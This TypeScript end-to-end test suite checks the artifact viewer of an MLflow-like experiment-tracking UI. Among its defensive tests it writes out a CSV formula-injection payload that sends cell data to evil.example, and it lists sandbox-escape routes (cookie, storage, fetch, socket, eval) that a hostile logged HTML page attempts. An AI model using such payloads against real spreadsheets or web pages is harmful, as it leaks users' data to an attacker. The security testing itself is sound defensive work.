import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { afterAll, beforeAll, expect, test } from "vitest";
import { expectSound, expectSoundInBothThemes, type OpenedPage, type OurUi, startOurUi } from "./harness/our-ui.ts";

interface Seed {
  readonly experimentId: string;
  readonly run: string;
  readonly other: string;
  readonly empty: string;
  readonly hostileFile: string;
}

let ui: OurUi<Seed>;

beforeAll(async () => {
  ui = await startOurUi<Seed>(new URL("ui-artifacts.seed.py", import.meta.url));
});

afterAll(async () => {
  await ui.stop();
});

const pathOf = (path: string, search = "") =>
  `/experiments/${ui.seed.experimentId}/runs/${ui.seed.run}?tab=artifacts&path=${encodeURIComponent(path)}${search}`;

async function openFile(path: string, search = ""): Promise<OpenedPage> {
  return await ui.open(pathOf(path, search));
}

test("the tree by keys: down into folders, back up, letters; the address holds the file", async () => {
  const opened = await openFile("");
  const { page } = opened;
  await page.getByRole("treeitem", { name: "nested", exact: true }).focus();
  await page.keyboard.press("ArrowRight");
  await page.getByRole("treeitem", { name: "deep" }).waitFor();
  await page.keyboard.press("ArrowRight");
  await page.keyboard.press("ArrowRight");
  await page.getByRole("treeitem", { name: "er", exact: true }).waitFor();
  await page.keyboard.press("ArrowLeft");
  await page.keyboard.press("ArrowLeft");
  await page.keyboard.press("c");
  await page.keyboard.press("Enter");
  await page.getByText("layers: [1, 2]").waitFor();
  expect(page.url()).toContain("path=config.yaml");
  const stored = await fetch(`${ui.server.url}/get-artifact?run_id=${ui.seed.run}&path=config.yaml`);
  const sha256 = createHash("sha256")
    .update(await stored.bytes())
    .digest("hex");
  await page.getByText(`SHA-256 ${sha256.slice(0, 8)}…`).waitFor();
  await page.getByRole("button", { name: "Copy the SHA-256" }).waitFor();
  await expectSound(opened);
  const deep = await openFile("nested/deep/er/MLmodel");
  await deep.page.getByText("artifact_path: model").waitFor();
  expect(await deep.page.getByRole("treeitem", { name: "MLmodel" }).getAttribute("aria-selected")).toBe("true");
});

test("artifacts that clients keep elsewhere: the page says where", async () => {
  const call = async (endpoint: string, message: object) => {
    const answer = await fetch(`${ui.server.url}/api/2.0/mlflow/${endpoint}`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify(message),
    });
    expect(answer.status).toBe(200);
    return (await answer.json()) as { experiment_id: string; run: { info: { run_id: string } } };
  };
  const { experiment_id } = await call("experiments/create", {
    name: "elsewhere",
    artifact_location: "s3://team-bucket/models",
  });
  const { run } = await call("runs/create", { experiment_id });
  const opened = await ui.open(`/experiments/${experiment_id}/runs/${run.info.run_id}?tab=artifacts`);
  await opened.page.getByRole("heading", { name: "The artifacts are not on this server" }).waitFor();
  const uri = `s3://team-bucket/models/${run.info.run_id}/artifacts`;
  await opened.page.getByText(uri, { exact: true }).waitFor();
  await opened.page.getByText(`mlflow.artifacts.download_artifacts("${uri}")`).waitFor();
  // The answer of the list is the one failed call that this page expects.
  expect(new Set(opened.trouble.failedCalls.splice(0).map(({ status }) => status))).toEqual(new Set([501]));
  await expectSoundInBothThemes(opened);
});

const ESCAPES = [
  ...["parent", "top", "cookie", "storage", "database", "fetch", "write", "xhr", "socket", "image", "script"],
  ...["eval", "worker", "popup"],
];

test("a logged page runs its scripts in a sandbox, and gets nowhere", async () => {
  await ui.context.addCookies([{ name: "session", value: "secret", url: ui.server.url }]);
  const { page, trouble } = await openFile("page.html");
  const dialogs: string[] = [];
  const failures: (string | undefined)[] = [];
  page.on("requestfailed", (request) => {
    if (new URL(request.url()).hostname === "evil.example") failures.push(request.failure()?.errorText);
  });
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const frame = page.frameLocator("iframe");
  const refused = ESCAPES.map((way) => `${way} refused`).join(", ");
  await frame.getByRole("heading", { name: refused, exact: true }).waitFor();
  expect(await page.locator("iframe").getAttribute("sandbox")).toBe("allow-scripts");
  expect(await page.title()).toMatch(/^files/);
  expect(page.url()).toContain("path=page.html");
  expect(dialogs).toEqual([]);
  // The only one that was thought of was refused before it left.
  expect(trouble.foreignRequests).toEqual([expect.stringContaining("http://evil.example/")]);
  expect(failures).toEqual(["csp"]);
  const answer = await fetch(`${ui.server.url}/api/2.0/mlflow/experiments/get-by-name?experiment_name=hacked`);
  expect(answer.status).toBe(404);
  await page.getByRole("button", { name: "Source", exact: true }).click();
  await page.getByText("<h1 id=h>plot</h1>").waitFor();
  expect(page.url()).toContain("show=source");
});

test("opened by itself, a logged page is no part of the UI either", async () => {
  const page = await ui.context.newPage();
  await page.goto(`${ui.server.url}/ui-api/preview?run_id=${ui.seed.run}&path=page.html`);
  const heading = page.getByRole("heading");
  await expect.poll(() => heading.textContent()).toContain("fetch refused");
  expect(await heading.textContent()).toContain("cookie refused");
  expect(await heading.textContent()).toContain("write refused");
  expect(await page.evaluate("origin")).toBe("null");
  await page.close();
});

test.each(["page.html", "evil.svg", "doc.pdf", "readme.md"])(
  "%s asked for as a file is only a download",
  async (path) => {
    const page = await ui.context.newPage();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.goto(`${ui.server.url}/get-artifact?run_uuid=${ui.seed.run}&path=${path}`).catch(() => undefined),
    ]);
    expect(download.suggestedFilename()).toBe(path);
    expect(page.url()).toBe("about:blank");
    await page.close();
  },
);

test.each([
  ["evil.svg", "40 × 40 px"],
  ["readme.md", "Title"],
  ["broken.json", "This is no JSON"],
  ["bytes.bin", "Not text"],
  ["nothing.txt", "The file is empty."],
  ["plot.png", "32 × 32 px"],
  ["doc.pdf", "1 page"],
  ["train.py", "for a while."],
  ["broken.wav", "The sound could not be played"],
])("%s is shown in light and dark, and nothing of it runs", async (path, text) => {
  const opened = await openFile(path);
  await opened.page.locator("main").getByText(text, { exact: false }).last().waitFor();
  expect(await opened.page.title()).toMatch(/^files/);
  expect(await opened.page.locator("main :is(script, iframe, object, embed)").count()).toBe(0);
  await expectSoundInBothThemes(opened);
});

test("a formula in a CSV is text, and the download is what was logged", async () => {
  const opened = await openFile("formula.csv");
  const { page } = opened;
  const formula = '=HYPERLINK("http://evil.example/"&A1)';
  await page.getByRole("cell", { name: formula, exact: true }).waitFor();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "Download", exact: true }).click(),
  ]);
  expect(await readFile(await download.path(), "utf8")).toBe(`a,b\n1,"${formula.replaceAll('"', '""')}"\n`);
  await expectSound(opened);
});

test("a file whose name is markup is a name; downloads keep it", async () => {
  const opened = await openFile(ui.seed.hostileFile);
  const { page } = opened;
  await page.getByText("hostile name", { exact: true }).waitFor();
  await page.getByRole("heading", { name: ui.seed.hostileFile, exact: true }).waitFor();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "Download", exact: true }).click(),
  ]);
  expect(await readFile(await download.path(), "utf8")).toBe("hostile name");
  await expectSound(opened);
});

test("JSON as a tree, a log_table as a table, GeoJSON as a map", async () => {
  const json = await openFile("data.json");
  await json.page.getByRole("treeitem", { name: "list [3]" }).click();
  await json.page.getByRole("treeitem", { name: "2 {1}" }).click();
  await json.page.getByRole("treeitem", { name: 'deep "value"' }).waitFor();
  await expectSound(json);
  const table = await openFile("eval.json");
  await table.page.getByRole("row", { name: "<i>x</i> 0.75" }).waitFor();
  await expectSound(table);
  const map = await openFile("map.geojson");
  await map.page.getByRole("img", { name: "2 shapes", exact: true }).waitFor();
  await expectSound(map);
});

test("tables: TSV with quotes, Parquet, and a CSV of 50 MB at once", async () => {
  const small = await openFile("small.tsv");
  const { page } = small;
  await page.getByRole("row", { name: "b 10" }).waitFor();
  await page.getByRole("button", { name: "value", exact: true }).click();
  await page.getByRole("row").nth(1).filter({ hasText: "a9" }).waitFor();
  await expectSound(small);
  const parquet = await openFile("table.parquet");
  await parquet.page.getByRole("row", { name: "0 row 0" }).waitFor();
  await parquet.page.getByText("5,000 rows").waitFor();
  await expectSound(parquet);
  const nested = await openFile("nested.parquet");
  await nested.page.getByRole("row", { name: '[1,2] {"a":1}' }).waitFor();
  await expectSound(nested);
  const large = await openFile("large.csv");
  await large.page.getByRole("row", { name: /^Open row \d+ 5 0\.123/ }).waitFor();
  await large.page.getByText("rows loaded").waitFor();
  await large.page.getByRole("region", { name: "Table", exact: true }).focus();
  await large.page.keyboard.press("End");
  await large.page.getByText(/\d\d,\d{3} rows loaded/).waitFor();
  await expectSound(large);
});

test("a large Parquet shows its first rows from a part of it, and more by scrolling", async () => {
  const { page } = await openFile("");
  const read: number[] = [];
  page.on("response", async (response) => {
    if (response.url().includes("large.parquet")) read.push(Number(response.headers()["content-length"]));
  });
  await page.getByRole("treeitem", { name: "large.parquet" }).click();
  const loaded = page.getByText(/^[\d,]+ of 400,000 rows/);
  await loaded.waitFor();
  const size = Number(
    (await page.getByRole("treeitem", { name: "large.parquet" }).textContent())?.match(/([\d.]+) MB/)?.[1],
  );
  expect(read.reduce((sum, bytes) => sum + bytes, 0) / 1_000_000).toBeLessThan(size);
  const before = await loaded.textContent();
  await page.getByRole("region", { name: "Table", exact: true }).focus();
  await page.keyboard.press("End");
  await expect.poll(() => loaded.textContent()).not.toBe(before);
});

test("of a wide Parquet only the columns in sight are read", async () => {
  const opened = await openFile("");
  const { page } = opened;
  let read = 0;
  page.on("response", (response) => {
    if (response.url().includes("wide.parquet")) read += Number(response.headers()["content-length"]);
  });
  await page.getByRole("treeitem", { name: "wide.parquet" }).click();
  await page.getByText("20,000 rows, 61 columns").waitFor();
  const table = page.getByRole("region", { name: "Table", exact: true });
  const item = await page.getByRole("treeitem", { name: "wide.parquet" }).textContent();
  expect(read / 1_000_000).toBeLessThan(Number(item?.match(/([\d.]+) MB/)?.[1]) / 2);
  await table.evaluate((element) => element.scrollTo({ left: element.scrollWidth }));
  await table.getByRole("cell", { name: "the last of row 0", exact: true }).waitFor();
  await expectSound(opened);
});

test("images in a logged table are shown small, and in full when pressed", async () => {
  const opened = await openFile("images.json");
  const { page } = opened;
  const thumbnail = page
    .getByRole("row")
    .nth(2)
    .getByRole("button", { name: /^Show table_images/ });
  const width = () => thumbnail.locator("img").evaluate((image) => Number(Reflect.get(image, "naturalWidth")));
  await expect.poll(width).toBeGreaterThan(0);
  await expectSoundInBothThemes(opened);
  await thumbnail.press("Enter");
  await page.getByText("24 × 16 px").waitFor();
  expect(page.url()).toContain("path=table_images");
});

test("a part that cannot be read says so, and is tried again", async () => {
  const { page } = await openFile("");
  await page.route(/get-artifact.*large\.csv/, (route) =>
    route.request().headers().range?.startsWith("bytes=0-") ? route.continue() : route.abort(),
  );
  await page.getByRole("treeitem", { name: "large.csv" }).click();
  await page.getByRole("region", { name: "Table", exact: true }).press("End");
  await page.getByRole("alert").getByText("The rest could not be read").waitFor();
  await page.getByRole("row", { name: /^Open row \d+ 5 0\.123/ }).waitFor({ state: "detached" });
  await page.unroute(/get-artifact.*large\.csv/);
  await page.getByRole("button", { name: "Try again", exact: true }).click();
  await page.getByText(/\d\d,\d{3} rows loaded/).waitFor();
  await page.getByRole("alert").waitFor({ state: "detached" });
});

test("a large log: its start, any place of it, and its end", async () => {
  const opened = await openFile("log.txt");
  const { page } = opened;
  await page.getByText("line 5", { exact: true }).waitFor();
  expect(await page.getByText(/^line \d+$/).count()).toBeLessThan(200);
  await page.getByRole("slider", { name: "Place in the file", exact: true }).fill("500");
  await page.getByText(/of 5\.9 MB, from 2\.9 MB on/).waitFor();
  await page
    .getByText(/^line 2[45]\d{4}$/)
    .first()
    .waitFor();
  expect(page.url()).toMatch(/from=29\d{5}/);
  await page.reload();
  await page
    .getByText(/^line 2[45]\d{4}$/)
    .first()
    .waitFor();
  await page.getByRole("button", { name: "The end", exact: true }).click();
  await page.getByText("line 499999", { exact: true }).waitFor();
  await expectSound(opened);
});

test("words are found in all of a large file, line by line and by keys; the address holds them", async () => {
  const opened = await openFile("log.txt");
  const { page } = opened;
  await page.getByText("line 5", { exact: true }).waitFor();
  await page.keyboard.press("Control+f");
  const field = page.getByRole("searchbox", { name: "Find in the file", exact: true });
  await expect.poll(() => field.evaluate((element) => element === element.ownerDocument.activeElement)).toBe(true);
  await page.keyboard.type("NE 49999");
  await page.getByText("1 of 11", { exact: true }).waitFor();
  await page.getByText("line 49999", { exact: true }).waitFor();
  await field.press("Shift+Enter");
  await page.getByText("11 of 11", { exact: true }).waitFor();
  await page.getByText("line 499999", { exact: true }).waitFor();
  expect(await page.locator("mark").first().textContent()).toBe("ne 49999");
  await expectSoundInBothThemes(opened);
  await page.reload();
  await page.getByText("1 of 11", { exact: true }).waitFor();
  await field.press("Escape");
  await field.waitFor({ state: "detached" });
  await page.locator("mark").first().waitFor({ state: "detached" });
  await expect.poll(() => page.url()).not.toContain("find=");
  expect(await page.evaluate("document.activeElement.ariaLabel")).toBe("Text of the file");
});

test("a search that finds nothing says so, and one that is stopped goes on", async () => {
  const { page } = await openFile("log.txt");
  await page.getByText("line 5", { exact: true }).waitFor();
  let release = (): void => {};
  const released = new Promise<void>((resolve) => {
    release = resolve;
  });
  await page.route(/get-artifact.*log\.txt/, async (route) => {
    await released;
    await route.continue();
  });
  await page.getByRole("button", { name: "Find in the file", exact: true }).click();
  await page.getByRole("searchbox", { name: "Find in the file", exact: true }).fill("nowhere");
  await page.getByText("Searching…").waitFor();
  await page.getByRole("button", { name: "Stop", exact: true }).click();
  await page.getByText("No line has it").waitFor();
  release();
  await page.getByRole("button", { name: "Search on", exact: true }).click();
  await page.getByRole("button", { name: "Stop", exact: true }).waitFor({ state: "detached" });
  await page.getByText("500,000 lines", { exact: true }).waitFor();
  await page.getByText("No line has it").waitFor();
});

test("long lines are wrapped where that is asked for, and stay so", async () => {
  const { page } = await openFile("long.txt");
  const text = page.getByRole("region", { name: "Text of the file", exact: true });
  await text.getByText("the end of it").waitFor();
  const isWide = () => text.evaluate((element) => element.scrollWidth > element.clientWidth);
  expect(await isWide()).toBe(true);
  await page.getByRole("button", { name: "Wrap long lines", exact: true }).click();
  await expect.poll(isWide).toBe(false);
  await page.reload();
  await text.getByText("the end of it").waitFor();
  expect(await isWide()).toBe(false);
  await page.getByRole("button", { name: "Wrap long lines", exact: true }).click();
  await expect.poll(isWide).toBe(true);
});

test("bytes that are no text, in hex to their end", async () => {
  const opened = await openFile("large.bin");
  const { page } = opened;
  await page.getByText("00000010", { exact: false }).waitFor();
  await page.getByText("The first 262 kB of 5 MB").waitFor();
  await page.getByRole("slider", { name: "Place in the file", exact: true }).fill("500");
  await page.getByText("from 2.5 MB on").waitFor();
  await page.getByText(/^002625a0 /).waitFor();
  await page.getByRole("button", { name: "The end", exact: true }).click();
  await page.getByText(/^004c4b30 .*·$/).waitFor();
  await expectSoundInBothThemes(opened);
});

test("a log is followed as it grows", async () => {
  const opened = await openFile("train.log");
  const { page } = opened;
  await page.getByText("first", { exact: true }).waitFor();
  await page.getByRole("button", { name: "The end", exact: true }).click();
  await page.getByRole("switch", { name: "Follow", exact: true }).click();
  const stored = `${ui.seed.experimentId}/${ui.seed.run}/artifacts/train.log`;
  const answer = await fetch(`${ui.server.url}/api/2.0/mlflow-artifacts/artifacts/${stored}`, {
    method: "PUT",
    body: "first\n2025-10-09 12:00:00 ERROR second\n",
  });
  expect(answer.status).toBe(200);
  await page.getByText("2025-10-09 12:00:00 ERROR second", { exact: true }).waitFor();
  await expectSound(opened);
});

test("sound is read from where it is played", async () => {
  const opened = await openFile("sound.wav");
  const { page } = opened;
  const ranges: string[] = [];
  page.on("request", (request) => ranges.push(request.headers().range ?? ""));
  const seek = `new Promise((done) => {
    const sound = document.querySelector("audio");
    const go = () => { sound.addEventListener("seeked", () => done(sound.duration)); sound.currentTime = 590 };
    if (sound.readyState > 0) go(); else sound.addEventListener("loadedmetadata", go);
  })`;
  await page.locator("audio").waitFor();
  expect(await page.evaluate(seek)).toBe(600);
  await expect.poll(() => ranges.some((range) => /^bytes=9\d{6}-/.test(range))).toBe(true);
  await expectSound(opened);
});

test("a folder is open in the tree, registers its model, and is downloaded as a ZIP", async () => {
  const opened = await openFile("nested/deep/er");
  const { page } = opened;
  const folder = page.getByRole("treeitem", { name: "er", exact: true });
  await page.getByRole("treeitem", { name: "MLmodel" }).waitFor();
  expect(await folder.getAttribute("aria-expanded")).toBe("true");
  await page.getByRole("button", { name: "MLmodel", exact: true }).waitFor();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "Download", exact: true }).click(),
  ]);
  expect(download.suggestedFilename()).toBe("er.zip");
  const bytes = (await readFile(await download.path())).toString("latin1");
  expect(bytes).toContain("er/MLmodelartifact_path: model");
  await page.getByRole("button", { name: "Register the model", exact: true }).click();
  await page.getByRole("dialog").getByText("nested/deep/er").waitFor();
  await page.getByLabel("Model", { exact: true }).fill("from-folder");
  await page.getByRole("button", { name: "Register", exact: true }).click();
  await page.getByText("Registered version 1 of from-folder.").waitFor();
  await expectSound(opened);
});

test("images by step, beside those of runs that are chosen by keys", async () => {
  const opened = await openFile("images");
  const { page } = opened;
  await page.getByRole("heading", { name: "val/sample", exact: true }).waitFor();
  await page.getByText("Step 20", { exact: true }).waitFor();
  await page.getByRole("button", { name: "Other runs", exact: true }).press("Enter");
  await page.getByRole("searchbox", { name: "Find a run by its name", exact: true }).fill("OTH");
  await page.getByRole("checkbox", { name: "no files", exact: true }).waitFor({ state: "detached" });
  await page.getByRole("checkbox", { name: "other", exact: true }).press("Space");
  await page.keyboard.press("Escape");
  await page.getByRole("img", { name: "val/sample, step 20", exact: true }).nth(1).waitFor();
  await page.getByRole("slider", { name: "Step", exact: true }).focus();
  await page.keyboard.press("ArrowLeft");
  await page.getByRole("img", { name: "val/sample, step 10", exact: true }).nth(1).waitFor();
  expect(page.url()).toContain("step=10");
  await expectSoundInBothThemes(opened);
  // Another image beside the same run's.
  await page.getByRole("treeitem", { name: "plots" }).click();
  await page.getByRole("treeitem", { name: "one.png" }).click();
  await page.getByRole("img", { name: "plots/one.png", exact: true }).nth(1).waitFor();
  expect(page.url()).toContain(`runs=${ui.seed.other}`);
  await page.setViewportSize({ width: 390, height: 844 });
  expect(await page.evaluate("document.documentElement.scrollWidth")).toBe(390);
  await expectSound(opened);
});

test("a path that is not there says so", async () => {
  const opened = await openFile("none.txt");
  await opened.page.getByRole("heading", { name: "There is no such file", exact: true }).waitFor();
  await expectSound(opened);
});
